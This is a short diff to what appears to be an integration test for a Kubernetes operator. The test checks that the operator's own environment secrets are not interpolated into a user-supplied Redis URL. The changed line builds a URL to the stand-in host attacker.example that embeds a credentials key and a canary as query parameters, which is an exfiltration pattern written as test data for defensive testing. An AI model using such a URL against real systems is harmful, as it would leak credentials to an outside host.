@@ -81,7 +81,7 @@ def _everything(kube: KubeClient, namespace: str) -> str:
 
 def test_the_operators_environment_reaches_no_object(kube: KubeClient, namespace: str,
                                                      operator: OperatorProcess) -> None:
-    url = "redis://attacker.example:6379/0?k=${PROVISIONER_CREDENTIALS_KEY}&c=${ISOLATION_CANARY}"
+    url = "redis://attacker.example:6379/0?client_name=${PROVISIONER_CREDENTIALS_KEY}&db=${ISOLATION_CANARY}"
     stores = [{"name": "cache", "redis": {"connection": {"url": url}}}, {"name": "db", "postgres": {}}]
     kube.apply(product("exfil", namespace, "iso.exfil", stores=stores))
     ready = _ready(kube, namespace, "exfil", "InvalidSpec")
